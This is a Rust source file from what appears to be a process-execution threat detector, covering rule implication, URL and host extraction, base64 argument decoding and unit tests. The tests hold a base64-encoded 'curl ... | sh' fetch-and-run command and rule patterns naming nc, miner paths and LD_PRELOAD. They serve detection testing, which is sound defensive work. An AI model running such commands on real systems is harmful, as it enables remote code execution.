            match cond.truth(&Single(peer, view), 0, ev, &pre) {
                Truth::False => return Truth::False,
                Truth::Unknown => unknown = true,
                Truth::True => {}
            }
        }
        if unknown {
            Truth::Unknown
        } else {
            Truth::True
        }
    }
}

// Implication between compiled conditions, for the loader's shadowed-rule check: `a.implies(b)`
// is true only when every exec that satisfies `a` satisfies `b` (sound, not complete: false
// means "not shown", never "shown not to").

impl StrMatcher {
    /// Every string this matches, `other` matches too (as far as can be shown).
    pub(crate) fn covered_by(&self, other: &StrMatcher) -> bool {
        if self.ignore_case && !other.ignore_case {
            return false;
        }
        let fold = |s: &str| -> String {
            if other.ignore_case {
                s.to_ascii_lowercase()
            } else {
                s.to_string()
            }
        };
        self.exact.iter().all(|e| other.is_match(e))
            && self.prefix.iter().all(|p| {
                let p = fold(p);
                other.prefix.iter().any(|q| p.starts_with(&**q))
                    || other.contains_raw.iter().any(|c| p.contains(&**c))
            })
            && self.suffix.iter().all(|x| {
                let x = fold(x);
                other.suffix.iter().any(|q| x.ends_with(&**q))
                    || other.contains_raw.iter().any(|c| x.contains(&**c))
            })
            && self.contains_raw.iter().all(|c| {
                let c = fold(c);
                other.contains_raw.iter().any(|q| c.contains(&**q))
            })
            && self.regex_raw.iter().all(|r| other.regex_raw.contains(r))
    }
}

fn covered(a: Option<&StrMatcher>, b: Option<&StrMatcher>) -> bool {
    match (a, b) {
        (_, None) => true,
        (Some(a), Some(b)) => a.covered_by(b),
        (None, Some(_)) => false,
    }
}

fn sub_list<T: PartialEq>(a: &Option<Vec<T>>, b: &Option<Vec<T>>) -> bool {
    match (a, b) {
        (_, None) => true,
        (Some(a), Some(b)) => a.iter().all(|x| b.contains(x)),
        (None, Some(_)) => false,
    }
}

fn sub_box(a: &Option<Box<Matcher>>, b: &Option<Box<Matcher>>) -> bool {
    match (a, b) {
        (_, None) => true,
        (Some(a), Some(b)) => a.implies(b),
        (None, Some(_)) => false,
    }
}

impl ArgvMatcher {
    fn implies(&self, b: &ArgvMatcher) -> bool {
        covered(self.any.as_ref(), b.any.as_ref())
            // No argument matches self.none, so none matches b.none if b.none ⊆ self.none.
            && match (&self.none, &b.none) {
                (_, None) => true,
                (Some(a), Some(b)) => b.covered_by(a),
                (None, Some(_)) => false,
            }
            && covered(self.cmdline.as_ref(), b.cmdline.as_ref())
            && (b.base64.is_none()
                || (self.base64.is_some()
                    && self
                        .base64_raw
                        .iter()
                        .all(|n| b.base64_raw.iter().any(|m| n.contains(m.as_str())))))
            && b.min_args.is_none_or(|m| self.min_args.is_some_and(|n| n >= m))
            && b.max_argc.is_none_or(|m| self.max_argc.is_some_and(|n| n <= m))
            && (!b.url_listed || self.url_listed)
    }
}

impl Matcher {
    /// Every exec (with its ancestry and neighbours) that satisfies `self` satisfies `b`, as
    /// far as can be shown field by field.
    pub(crate) fn implies(&self, b: &Matcher) -> bool {
        // Each of b's conditions must follow from self's own fields, or from every branch of
        // self's `any`.
        let branches = |f: &dyn Fn(&Matcher) -> bool| {
            f(self) || (!self.any.is_empty() && self.any.iter().all(f))
        };
        (b.scope.is_none() || branches(&|m| m.scope == b.scope))
            && (b.exe.is_none() || branches(&|m| covered(m.exe.as_deref(), b.exe.as_deref())))
            && (b.basename.is_none() || branches(&|m| covered(m.basename.as_deref(), b.basename.as_deref())))
            && (b.layer.is_none() || branches(&|m| sub_list(&m.layer, &b.layer)))
            && (b.uid.is_none() || branches(&|m| sub_list(&m.uid, &b.uid)))
            && (b.stdin.is_none() || branches(&|m| sub_list(&m.stdin, &b.stdin)))
            && (b.stdout.is_none() || branches(&|m| sub_list(&m.stdout, &b.stdout)))
            && (b.stdin_peer.is_none()
                || branches(&|m| match (&m.stdin_peer, &b.stdin_peer) {
                    (Some(a), Some(bb)) => a.implies(bb),
                    _ => false,
                }))
            && (b.stdout_peer.is_none()
                || branches(&|m| match (&m.stdout_peer, &b.stdout_peer) {
                    (Some(a), Some(bb)) => a.implies(bb),
                    _ => false,
                }))
            && (b.image.is_none() || branches(&|m| covered(m.image.as_deref(), b.image.as_deref())))
            && (b.namespace.is_none() || branches(&|m| covered(m.namespace.as_deref(), b.namespace.as_deref())))
            && b.labels.iter().all(|(k, lb)| {
                branches(&|m| m.labels.iter().any(|(j, la)| j == k && la.covered_by(lb)))
            })
            && (b.env.is_none()
                || branches(&|m| match (&m.env, &b.env) {
                    (Some(a), Some(bb)) => a.implies(bb),
                    _ => false,
                }))
            && (b.argv.is_none()
                || branches(&|m| match (&m.argv, &b.argv) {
                    (Some(a), Some(bb)) => a.implies(bb),
                    _ => false,
                }))
            && (b.parent.is_none() || branches(&|m| sub_box(&m.parent, &b.parent)))
            && (b.ancestor.is_none()
                || branches(&|m| {
                    sub_box(&m.ancestor, &b.ancestor) || sub_box(&m.parent, &b.ancestor)
                }))
            && (b.stdin_writer.is_none()
                || branches(&|m| sub_box(&m.stdin_writer, &b.stdin_writer)))
            && (b.stdout_reader.is_none()
                || branches(&|m| sub_box(&m.stdout_reader, &b.stdout_reader)))
            // b's `any` holds if one of its branches follows from self.
            && (b.any.is_empty() || b.any.iter().any(|x| self.implies(x)))
            // not B follows from not A when B implies A.
            && match &b.not {
                None => true,
                Some(nb) => branches(&|m| m.not.as_ref().is_some_and(|na| nb.implies(na))),
            }
    }
}

/// A condition's value: holds, does not hold, or cannot be decided (container metadata
/// missing).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Truth {
    False,
    Unknown,
    True,
}

/// The evidence value of a condition on metadata the exec lacks.
pub const MISSING: &str = "<missing>";

/// Container metadata of an exec, as the metadata conditions see it.
enum Meta<'a> {
    /// A host exec: no image, namespace or labels, for certain.
    Host,
    /// In a container whose metadata the runtime did not give (yet): undecidable.
    Missing,
    Present(&'a ContainerMeta),
}

/// A metadata value: known (present or absent for certain), or missing.
enum Lookup<'a> {
    Known(Option<&'a str>),
    Missing,
}
use Lookup::{Known, Missing};

impl<'a> Meta<'a> {
    fn of(e: &'a ExecEvent) -> Meta<'a> {
        match (&e.container_id, &e.container) {
            (None, _) => Meta::Host,
            (Some(_), None) => Meta::Missing,
            // The enricher gives a note and no image when the runtime could not be asked.
            (Some(_), Some(m)) if m.image.is_empty() && m.note.is_some() => Meta::Missing,
            (Some(_), Some(m)) => Meta::Present(m),
        }
    }

    fn image(&self) -> Lookup<'a> {
        match self {
            Meta::Host => Known(None),
            Meta::Missing => Missing,
            Meta::Present(m) => Known(Some(m.image.as_str())),
        }
    }

    /// A container without a pod is not in Kubernetes, unless the enricher noted that the
    /// metadata is partial.
    fn pod(&self) -> Result<Option<&'a PodMeta>, ()> {
        match self {
            Meta::Host => Ok(None),
            Meta::Missing => Err(()),
            Meta::Present(m) if m.pod.is_none() && m.note.is_some() => Err(()),
            Meta::Present(m) => Ok(m.pod.as_ref()),
        }
    }

    fn namespace(&self) -> Lookup<'a> {
        match self.pod() {
            Ok(p) => Known(p.map(|p| p.namespace.as_str())),
            Err(()) => Missing,
        }
    }

    fn label(&self, k: &str) -> Lookup<'a> {
        if let Meta::Present(m) = self {
            if let Some(v) = m.labels.get(k) {
                return Known(Some(v.as_str()));
            }
        }
        match self.pod() {
            Ok(p) => Known(p.and_then(|p| p.labels.get(k)).map(String::as_str)),
            Err(()) => Missing,
        }
    }
}

/// Records that `prefix` + `field` held with `value`, when evidence is being recorded.
fn note(ev: &mut Option<&mut Vec<Evidence>>, prefix: &str, field: &str, value: &str) {
    if let Some(v) = ev.as_deref_mut() {
        v.push(Evidence {
            field: format!("{prefix}{field}"),
            value: value.to_string(),
        });
    }
}

/// `prefix` + `what` when evidence is being recorded; an empty (unallocated) string otherwise.
fn evidence_prefix(ev: &Option<&mut Vec<Evidence>>, prefix: &str, what: &str) -> String {
    if ev.is_some() {
        format!("{prefix}{what}")
    } else {
        String::new()
    }
}

/// One exec on its own (a pipe neighbour): no ancestry, no neighbours.
struct Single<'a>(&'a ExecEvent, &'a dyn ExecView);

impl ExecView for Single<'_> {
    fn at(&self, depth: usize) -> Option<&ExecEvent> {
        (depth == 0).then_some(self.0)
    }
    fn stdin_writer(&self, _depth: usize) -> Option<&ExecEvent> {
        None
    }
    /// The feed is the outer view's.
    fn url_listed(&self, url: &str) -> bool {
        self.1.url_listed(url)
    }
    fn host_listed(&self, host: &str) -> bool {
        self.1.host_listed(host)
    }
    fn listed_entry(&self, text: &str, host: bool) -> Option<String> {
        self.1.listed_entry(text, host)
    }
}

/// The URLs in `arg`: from a `http://`, `https://` or `ftp://` scheme (any case) to the first
/// space, quote, backquote or shell operator. Slices of `arg`: no allocation.
pub(crate) fn urls(arg: &str) -> impl Iterator<Item = &str> {
    let b = arg.as_bytes();
    let mut from = 0;
    std::iter::from_fn(move || {
        while let Some(i) = arg[from..].find("://").map(|i| i + from) {
            from = i + 3;
            let start = ["https", "http", "ftp"].iter().find_map(|s| {
                let n = s.len();
                if i >= n && b[i - n..i].eq_ignore_ascii_case(s.as_bytes()) {
                    Some(i - n)
                } else {
                    None
                }
            });
            let Some(start) = start else { continue };
            // The scheme must start the argument or follow a non-alphanumeric character.
            if start > 0 && b[start - 1].is_ascii_alphanumeric() {
                continue;
            }
            let end = arg[i + 3..]
                .find(|c: char| {
                    c.is_whitespace()
                        || matches!(c, '"' | '\'' | '`' | '|' | ';' | '&' | '<' | '>' | ')')
                })
                .map_or(arg.len(), |j| i + 3 + j);
            if end > i + 3 {
                from = end;
                return Some(&arg[start..end]);
            }
        }
        None
    })
}

/// The host an argument names on its own, if it looks like one: `evil.example`,
/// `203.0.113.9`, `[2001:db8::7]` or `2001:db8::7`, also as `user@host` (ssh), `host:port` or
/// `host:path` (scp), `host/path` (curl and wget take a URL without its scheme) and the value
/// of `--option=host`. A name needs a dot (`x.c` qualifies, `-o` and `/tmp/x` do not); an
/// argument with a scheme (`://`) is [`urls`]'. A slice of `arg`: no allocation.
pub(crate) fn bare_host(arg: &str) -> Option<&str> {
    let mut s = arg;
    if s.starts_with('-') {
        s = s.split_once('=')?.1;
    }
    if s.contains("://") || s.is_empty() {
        return None;
    }
    if s.contains(':')
        && s.bytes()
            .all(|b| b.is_ascii_hexdigit() || b == b':' || b == b'.')
    {
        return s.parse::<std::net::Ipv6Addr>().is_ok().then_some(s);
    }
    let auth_end = s.find('/').unwrap_or(s.len());
    if let Some(i) = s[..auth_end].rfind('@') {
        s = &s[i + 1..];
    }
    if s.starts_with('[') {
        let end = s.find(']')?;
        let inner = &s[1..end];
        return inner
            .parse::<std::net::Ipv6Addr>()
            .is_ok()
            .then_some(&s[..=end]);
    }
    let host = &s[..s.find([':', '/']).unwrap_or(s.len())];
    let name = host.strip_suffix('.').unwrap_or(host);
    let ok = name.contains('.')
        && !name.starts_with(['.', '-'])
        && !name.contains("..")
        && name
            .chars()
            .all(|c| c.is_alphanumeric() || matches!(c, '-' | '_' | '.'));
    ok.then_some(host)
}

fn compile_argv(a: &ArgvCond) -> Result<ArgvMatcher, PatternError> {
    let base64 = match &a.base64_contains {
        Some(v) if v.is_empty() => return Err(PatternError::Empty("argv.base64_contains")),
        Some(v) => Some(AhoCorasick::new(v)?),
        None => None,
    };
    let m = ArgvMatcher {
        any: a
            .any
            .as_ref()
            .map(|s| StrMatcher::compile(s, "argv.any"))
            .transpose()?,
        none: a
            .none
            .as_ref()
            .map(|s| StrMatcher::compile(s, "argv.none"))
            .transpose()?,
        cmdline: a
            .cmdline
            .as_ref()
            .map(|s| StrMatcher::compile(s, "argv.cmdline"))
            .transpose()?,
        base64,
        base64_raw: a.base64_contains.clone().unwrap_or_default(),
        min_args: a.min_args,
        max_argc: a.max_argc,
        url_listed: match a.url_listed {
            Some(false) => {
                return Err(PatternError::Invalid(
                    "argv.url_listed = false is no condition; write `not = { argv = { url_listed = true } }`"
                        .into(),
                ))
            }
            Some(true) => true,
            None => false,
        },
    };
    if m.any.is_none()
        && m.none.is_none()
        && m.cmdline.is_none()
        && m.base64.is_none()
        && m.min_args.is_none()
        && m.max_argc.is_none()
        && !m.url_listed
    {
        return Err(PatternError::Empty("argv"));
    }
    Ok(m)
}

fn eval_argv(
    a: &ArgvMatcher,
    e: &ExecEvent,
    view: &dyn ExecView,
    facts: Option<(&Facts, &ExecEvent)>,
    recording: bool,
    note: &mut dyn FnMut(&str, &str),
) -> bool {
    let args = e.argv.get(1..).unwrap_or(&[]);
    if a.url_listed {
        // URLs first (a URL entry is the most specific), then arguments naming a host alone.
        if let Some(u) = args
            .iter()
            .flat_map(|x| urls(x))
            .find(|u| view.url_listed(u))
        {
            note("argv.url", u);
            if let Some(entry) = recording.then(|| view.listed_entry(u, false)).flatten() {
                note("url_feed", &entry);
            }
        } else {
            match args
                .iter()
                .filter_map(|x| bare_host(x))
                .find(|h| view.host_listed(h))
            {
                Some(h) => {
                    note("argv.host", h);
                    if let Some(entry) = recording.then(|| view.listed_entry(h, true)).flatten() {
                        note("url_feed", &entry);
                    }
                }
                None => return false,
            }
        }
    }
    if let Some(n) = a.min_args {
        if args.len() < n {
            return false;
        }
    }
    if let Some(n) = a.max_argc {
        if e.argv.len() > n {
            return false;
        }
        note("argc", &e.argv.len().to_string());
    }
    if let Some(m) = &a.any {
        if recording {
            match args.iter().find(|x| m.is_match(x)) {
                Some(x) => note("argv", x),
                None => return false,
            }
        } else if !m.any_arg(args, facts) {
            return false;
        }
    }
    if let Some(m) = &a.none {
        if m.any_arg(args, facts) {
            return false;
        }
    }
    if let Some(m) = &a.cmdline {
        // `contains` strings without a space match the NUL-joined argv where they match the
        // command line, and that string is shared with the `argv` conditions.
        if !recording && m.contains_without_spaces {
            if let (Some((fx, _)), Some(ac)) = (facts, &m.contains) {
                if !fx.with_joined_all(e, |all| ac.is_match(all)) {
                    return false;
                }
                return finish_argv(a, args, facts, note);
            }
        }
        let held = with_cmdline(e, facts.map(|f| f.0), |line| {
            let held = m.is_match(line);
            if held {
                note("cmdline", line);
            }
            held
        });
        if !held {
            return false;
        }
    }
    finish_argv(a, args, facts, note)
}

/// The last of the argv conditions (after `cmdline`): `base64_contains`.
fn finish_argv(
    a: &ArgvMatcher,
    args: &[String],
    facts: Option<(&Facts, &ExecEvent)>,
    note: &mut dyn FnMut(&str, &str),
) -> bool {
    if let Some(ac) = &a.base64 {
        // Most execs have no argument that could be base64: found out once per exec.
        if facts.is_some_and(|(f, _)| !f.base64_runs(args)) {
            return false;
        }
        match args.iter().find_map(|x| base64_hit(ac, x)) {
            Some(decoded) => note("argv.base64", &decoded),
            None => return false,
        }
    }
    true
}

/// ASCII-lower-cases `b` in place, eight bytes at a time (the per-exec copy of argv the
/// string gates search).
fn ascii_lowercase(b: &mut [u8]) {
    const LOW7: u64 = 0x7f7f_7f7f_7f7f_7f7f;
    const HIGH: u64 = 0x8080_8080_8080_8080;
    let mut chunks = b.chunks_exact_mut(8);
    for c in &mut chunks {
        let mut w = [0u8; 8];
        w.copy_from_slice(c);
        let x = u64::from_le_bytes(w);
        let low = x & LOW7;
        // Per byte: the high bit is set from 'A' (0x41) up, and from past 'Z' (0x5a) up.
        let from_a = low.wrapping_add(0x3f3f_3f3f_3f3f_3f3f);
        let past_z = low.wrapping_add(0x2525_2525_2525_2525);
        let upper = (from_a ^ past_z) & !x & HIGH;
        c.copy_from_slice(&(x | (upper >> 2)).to_le_bytes());
    }
    chunks.into_remainder().make_ascii_lowercase();
}

/// Shortest base64 run considered (12 bytes decoded): shorter runs are ordinary words.
const MIN_B64_RUN: usize = 16;

/// A tree's needs of an exec's cheap fields, checked with a few bit operations before the
/// rule is tried: the bits of `all` must all be the exec's, and the exec's layer must be one
/// of `layers` (when any). A shortcut only: the tree's own evaluation checks the same.
#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct Needs {
    all: u8,
    layers: u32,
}

impl Needs {
    const IN_CONTAINER: u8 = 1;
    const ON_HOST: u8 = 2;
    const ENV: u8 = 4;
    const BASE64_RUN: u8 = 8;

    fn layer_bit(l: Layer) -> u32 {
        1 << (l as u32 & 31)
    }

    /// The exec's bits other than [`Needs::BASE64_RUN`] (worked out only when asked), and its
    /// layer's bit.
    pub(crate) fn of(e: &ExecEvent) -> (u8, u32) {
        let mut bits = if e.container_id.is_some() {
            Needs::IN_CONTAINER
        } else {
            Needs::ON_HOST
        };
        if !e.env.joined().is_empty() {
            bits |= Needs::ENV;
        }
        (bits, Needs::layer_bit(e.binary.layer))
    }

    /// Whether an exec with `bits` and `layer` (from [`Needs::of`]) meets these needs;
    /// `base64` says whether its arguments hold a base64 run, asked only if needed.
    #[inline]
    pub(crate) fn met(&self, bits: u8, layer: u32, base64: impl FnOnce() -> bool) -> bool {
        let missing = self.all & !bits;
        (missing & !Needs::BASE64_RUN) == 0
            && (self.layers == 0 || self.layers & layer != 0)
            && (missing & Needs::BASE64_RUN == 0 || base64())
    }
}

/// Values every rule judging one exec may ask for, worked out once for that exec (for the
/// exec at depth 0 of the view that gives them, [`ExecView::facts`]): its arguments joined
/// (by NUL, for `contains` over all arguments; by space, the `cmdline`), whether any argument
/// could be base64. The joined strings live in per-thread buffers tagged with this value's
/// id, so nothing allocates once they have grown, and a buffer filled for another exec is
/// never taken for this one's.
#[derive(Debug)]
pub struct Facts {
    id: u64,
    base64_runs: Cell<Option<bool>>,
    /// Where the basenames of the exec's filename and binary path start.
    bases: Option<(u32, u32)>,
}

impl Default for Facts {
    fn default() -> Self {
        Self::new()
    }
}

impl Facts {
    pub fn new() -> Facts {
        let id = NEXT_FACTS.with(|n| {
            let id = n.get().wrapping_add(1).max(1);
            n.set(id);
            id
        });
        Facts {
            id,
            base64_runs: Cell::new(None),
            bases: None,
        }
    }

    /// The basenames of `e`'s filename and binary path (`e` is the exec of these facts).
    pub(crate) fn basenames<'e>(&self, e: &'e ExecEvent) -> (&'e str, &'e str) {
        basenames(e, Some(self), 0)
    }

    /// Facts of `e` (the exec at depth 0 of the view that gives them), its basenames worked
    /// out at once.
    pub fn of(e: &ExecEvent) -> Facts {
        let start = |path: &str| u32::try_from(path.len() - basename(path).len()).ok();
        Facts {
            bases: start(&e.filename).zip(start(&e.binary.path)),
            ..Facts::new()
        }
    }

    /// `f` on `e`'s arguments after the first, joined by NUL.
    fn with_joined<R>(&self, e: &ExecEvent, f: impl FnOnce(&str) -> R) -> R {
        self.with_joined_all(e, |all| {
            let skip = e.argv.first().map_or(0, |a0| a0.len() + 1);
            f(all.get(skip..).unwrap_or(""))
        })
    }

    /// `f` on all of `e`'s argv joined by NUL (the command line with NUL for the spaces).
    fn with_joined_all<R>(&self, e: &ExecEvent, f: impl FnOnce(&str) -> R) -> R {
        JOINED.with(|b| {
            let mut b = b.borrow_mut();
            let (tag, joined) = &mut *b;
            if *tag != self.id {
                joined.clear();
                for (i, x) in e.argv.iter().enumerate() {
                    if i > 0 {
                        joined.push('\0');
                    }
                    joined.push_str(x);
                }
                *tag = self.id;
            }
            f(joined)
        })
    }

    /// `f` on all of `e`'s argv joined by NUL and ASCII lower-cased, from a per-thread
    /// buffer (no allocation once it has grown).
    pub(crate) fn with_lower_joined_all<R>(e: &ExecEvent, f: impl FnOnce(&[u8]) -> R) -> R {
        LOWER.with(|b| {
            let mut b = b.borrow_mut();
            b.clear();
            for (i, x) in e.argv.iter().enumerate() {
                if i > 0 {
                    b.push(0);
                }
                b.extend_from_slice(x.as_bytes());
            }
            ascii_lowercase(&mut b);
            f(&b)
        })
    }

    pub(crate) fn base64_runs(&self, args: &[String]) -> bool {
        if let Some(b) = self.base64_runs.get() {
            return b;
        }
        let b = args
            .iter()
            .any(|x| x.len() >= MIN_B64_RUN && base64_runs(x).next().is_some());
        self.base64_runs.set(Some(b));
        b
    }
}

/// `f` on `e`'s command line (arguments joined by a space), from the per-thread buffer (kept
/// for the exec of `facts`).
fn with_cmdline<R>(e: &ExecEvent, facts: Option<&Facts>, f: impl FnOnce(&str) -> R) -> R {
    CMDLINE.with(|b| {
        let mut b = b.borrow_mut();
        let (tag, line) = &mut *b;
        let id = facts.map_or(0, |f| f.id);
        if id == 0 || *tag != id {
            line.clear();
            for (i, x) in e.argv.iter().enumerate() {
                if i > 0 {
                    line.push(' ');
                }
                line.push_str(x);
            }
            *tag = id;
        }
        f(line)
    })
}

/// The two sorted index lists as one, ascending, each index once.
fn merged<'a>(a: &'a [u16], b: &'a [u16]) -> impl Iterator<Item = u16> + 'a {
    let (mut i, mut j) = (0, 0);
    std::iter::from_fn(move || {
        let next = match (a.get(i), b.get(j)) {
            (Some(&x), Some(&y)) if x == y => {
                i += 1;
                j += 1;
                x
            }
            (Some(&x), Some(&y)) if x < y => {
                i += 1;
                x
            }
            (Some(_), Some(&y)) => {
                j += 1;
                y
            }
            (Some(&x), None) => {
                i += 1;
                x
            }
            (None, Some(&y)) => {
                j += 1;
                y
            }
            (None, None) => return None,
        };
        Some(next)
    })
}

thread_local! {
    static NEXT_FACTS: Cell<u64> = const { Cell::new(0) };
    static JOINED: RefCell<(u64, String)> = const { RefCell::new((0, String::new())) };
    static LOWER: RefCell<Vec<u8>> = const { RefCell::new(Vec::new()) };
    static CMDLINE: RefCell<(u64, String)> = const { RefCell::new((0, String::new())) };
    static DECODED: std::cell::RefCell<Vec<u8>> = const { std::cell::RefCell::new(Vec::new()) };
    static PEER: std::cell::RefCell<String> = const { std::cell::RefCell::new(String::new()) };
}

/// Decodes each base64 run in `arg` and returns the first decoded text holding a needle.
/// A run must be at least [`MIN_B64_RUN`] characters with both upper- and lower-case letters
/// (base64 of 12 or more bytes of text nearly always has both; paths and words do not), and
/// decodes into a per-thread buffer; only a hit allocates.
fn base64_hit(ac: &AhoCorasick, arg: &str) -> Option<String> {
    for run in base64_runs(arg) {
        let run = run.trim_end_matches('=');
        // A run may start mid-token (`x=Y3Vy...`): try the whole run, then its tail cut to a
        // multiple of 4 from the end.
        for candidate in [run, &run[run.len() % 4..]] {
            let hit = DECODED.with(|buf| {
                let mut buf = buf.borrow_mut();
                buf.clear();
                let engine = base64::engine::general_purpose::STANDARD_NO_PAD;
                if engine.decode_vec(candidate, &mut buf).is_ok() && ac.is_match(&buf[..]) {
                    Some(String::from_utf8_lossy(&buf).into_owned())
                } else {
                    None
                }
            });
            if hit.is_some() {
                return hit;
            }
        }
    }
    None
}

/// The runs of `arg` that could be base64: at least [`MIN_B64_RUN`] base64 characters with
/// both upper- and lower-case letters.
fn base64_runs(arg: &str) -> impl Iterator<Item = &str> {
    let b = arg.as_bytes();
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < b.len() {
            if B64_CLASS[usize::from(b[i])] == 0 {
                i += 1;
                continue;
            }
            let start = i;
            let mut seen = 0u8;
            while let Some(&c) = b.get(i) {
                let class = B64_CLASS[usize::from(c)];
                if class == 0 {
                    break;
                }
                seen |= class;
                i += 1;
            }
            if i - start >= MIN_B64_RUN && seen & (B64_UPPER | B64_LOWER) == B64_UPPER | B64_LOWER {
                return Some(&arg[start..i]);
            }
        }
        None
    })
}

const B64_OTHER: u8 = 1;
const B64_UPPER: u8 = 2;
const B64_LOWER: u8 = 4;

/// The base64 alphabet by byte: 0 outside it, else whether an upper- or lower-case letter.
static B64_CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        t[c] = if b.is_ascii_uppercase() {
            B64_UPPER
        } else if b.is_ascii_lowercase() {
            B64_LOWER
        } else if b.is_ascii_digit() || b == b'+' || b == b'/' || b == b'=' {
            B64_OTHER
        } else {
            0
        };
        c += 1;
    }
    t
};

#[cfg(test)]
mod tests {
    use super::*;

    fn ac(needles: &[&str]) -> AhoCorasick {
        AhoCorasick::new(needles).unwrap()
    }

    #[test]
    fn argv_is_lower_cased_eight_bytes_at_a_time_as_one_by_one() {
        // Every byte value, at every offset from a chunk boundary.
        let all: Vec<u8> = (0..=255u8).chain(0..=255u8).collect();
        for skip in 0..8 {
            let mut got = all[skip..].to_vec();
            ascii_lowercase(&mut got);
            assert_eq!(got, all[skip..].to_ascii_lowercase(), "offset {skip}");
        }
    }

    #[test]
    fn base64_runs_are_decoded_inside_arguments() {
        // "curl http://x/y | sh" in base64, inside a longer argument.
        let enc = base64::engine::general_purpose::STANDARD.encode("curl http://x/y | sh");
        let arg = format!("echo {enc} | base64 -d | bash");
        assert!(base64_hit(&ac(&["curl"]), &arg)
            .unwrap()
            .contains("curl http://x/y"));
        assert!(base64_hit(&ac(&["wget"]), &arg).is_none());
        // Ordinary words and short runs are not decoded.
        assert!(base64_hit(&ac(&["a"]), "--output=/tmp/file").is_none());
    }

    fn cond(toml_text: &str) -> Matcher {
        let c: Cond = toml::from_str(toml_text).unwrap();
        Matcher::compile(&c).unwrap()
    }

    #[test]
    fn implication_is_shown_field_by_field() {
        let implies = |a: &str, b: &str| cond(a).implies(&cond(b));
        // Exact names against the other side's patterns, case folding one way only.
        assert!(implies(
            "basename = [\"nc\"]",
            "basename = [\"nc\", \"ncat\"]"
        ));
        assert!(!implies(
            "basename = [\"nc\", \"ncat\"]",
            "basename = [\"nc\"]"
        ));
        assert!(implies(
            "basename = [\"NC\"]",
            "basename = { equals = [\"nc\"], ignore_case = true }"
        ));
        assert!(!implies(
            "basename = { equals = [\"nc\"], ignore_case = true }",
            "basename = [\"nc\"]"
        ));
        // Prefixes and contains.
        assert!(implies(
            "exe = { prefix = [\"/dev/shm/x/\"] }",
            "exe = { prefix = [\"/dev/shm/\"] }"
        ));
        assert!(implies(
            "exe = { prefix = [\"/tmp/miner\"] }",
            "exe = { contains = [\"miner\"] }"
        ));
        assert!(!implies(
            "exe = { prefix = [\"/dev/\"] }",
            "exe = { prefix = [\"/dev/shm/\"] }"
        ));
        // More conditions imply fewer; a missing one implies nothing.
        assert!(implies(
            "basename = [\"sh\"]\nuid = [1000]",
            "uid = [1000, 1001]"
        ));
        assert!(!implies("basename = [\"sh\"]", "uid = [1000]"));
        // argv: none is contravariant, min_args and max_argc by bound, base64 by substring.
        assert!(implies(
            "argv = { none = [\"-z\", \"-h\"] }",
            "argv = { none = [\"-z\"] }"
        ));
        assert!(!implies(
            "argv = { none = [\"-z\"] }",
            "argv = { none = [\"-z\", \"-h\"] }"
        ));
        assert!(implies(
            "argv = { min_args = 3 }",
            "argv = { min_args = 1 }"
        ));
        assert!(!implies(
            "argv = { min_args = 1 }",
            "argv = { min_args = 3 }"
        ));
        assert!(implies(
            "argv = { max_argc = 0 }",
            "argv = { max_argc = 1 }"
        ));
        assert!(implies(
            "argv = { base64_contains = [\"curl -s\"] }",
            "argv = { base64_contains = [\"curl\", \"wget\"] }"
        ));
        // Nested: a parent condition implies the same ancestor condition; any by branches;
        // not contravariantly.
        assert!(implies(
            "parent = { basename = [\"nginx\"] }",
            "ancestor = { basename = [\"nginx\", \"httpd\"] }"
        ));
        assert!(!implies(
            "ancestor = { basename = [\"nginx\"] }",
            "parent = { basename = [\"nginx\"] }"
        ));
        assert!(implies(
            "any = [{ basename = [\"nc\"] }, { basename = [\"ncat\"], uid = [0] }]",
            "basename = [\"nc\", \"ncat\"]"
        ));
        assert!(!implies(
            "any = [{ basename = [\"nc\"] }, { exe = [\"/x\"] }]",
            "basename = [\"nc\"]"
        ));
        assert!(implies(
            "basename = [\"nc\"]",
            "any = [{ basename = [\"nc\"] }, { uid = [0] }]"
        ));
        assert!(implies("not = { uid = [0, 1] }", "not = { uid = [0] }"));
        assert!(!implies("not = { uid = [0] }", "not = { uid = [0, 1] }"));
        // Different regexes are not compared: not shown.
        assert!(!implies(
            "exe = { regex = [\"^/a\"] }",
            "exe = { regex = [\"^/a.*\"] }"
        ));
        // env: names and values as string conditions; a value implies no value.
        assert!(implies(
            "env = { name = [\"HTTP_PROXY\"], value = { prefix = [\"http://\"] } }",
            "env = { name = [\"HTTP_PROXY\", \"HTTPS_PROXY\"] }"
        ));
        assert!(!implies(
            "env = { name = [\"HTTP_PROXY\"] }",
            "env = { name = [\"HTTP_PROXY\"], value = { prefix = [\"http://\"] } }"
        ));
        assert!(!implies(
            "env = { name = [\"HTTP_PROXY\", \"LD_PRELOAD\"] }",
            "env = { name = [\"HTTP_PROXY\"] }"
        ));
        assert!(implies(
            "stdin_writer = { basename = [\"curl\"] }",
            "stdin_writer = { basename = [\"curl\", \"wget\"] }"
        ));
    }

    #[test]
    fn env_entries_match_by_name_and_value() {
        let c: Cond = toml::from_str(
            "env = { name = { equals = [\"HTTP_PROXY\"], ignore_case = true }, value = { contains = [\"3128\"] } }",
        )
        .unwrap();
        let m = EnvMatcher::compile(c.env.as_ref().unwrap()).unwrap();
        let env = |v: &[&str]| v.iter().collect::<ward_event::StrList>();
        assert_eq!(
            m.find(&env(&["PATH=/bin", "http_proxy=http://p:3128", "X=1"])),
            Some("http_proxy=http://p:3128")
        );
        // The name is up to the first '='; the value may hold more.
        assert_eq!(
            m.find(&env(&["HTTP_PROXY=a=3128"])),
            Some("HTTP_PROXY=a=3128")
        );
        assert_eq!(m.find(&env(&["HTTP_PROXY=http://p:8080"])), None);
        assert_eq!(m.find(&env(&["MY_HTTP_PROXY=http://p:3128"])), None);
        assert_eq!(m.find(&env(&["HTTP_PROXY"])), None);
        assert_eq!(m.find(&env(&[])), None);
        // No value condition: any value, an entry without '=' included.
        let c: Cond = toml::from_str("env = { name = [\"GCONV_PATH\"] }").unwrap();
        let m = EnvMatcher::compile(c.env.as_ref().unwrap()).unwrap();
        assert_eq!(m.find(&env(&["GCONV_PATH"])), Some("GCONV_PATH"));
        assert_eq!(m.find(&env(&["GCONV_PATH="])), Some("GCONV_PATH="));
        // Names given as strings are looked for in the whole environment first; a name
        // found only inside a value is then still no match.
        assert!(m.needles.is_some());
        assert_eq!(m.find(&env(&["X=GCONV_PATH", "GCONV"])), None);
        // A name regex (or suffix, contains) has no such search.
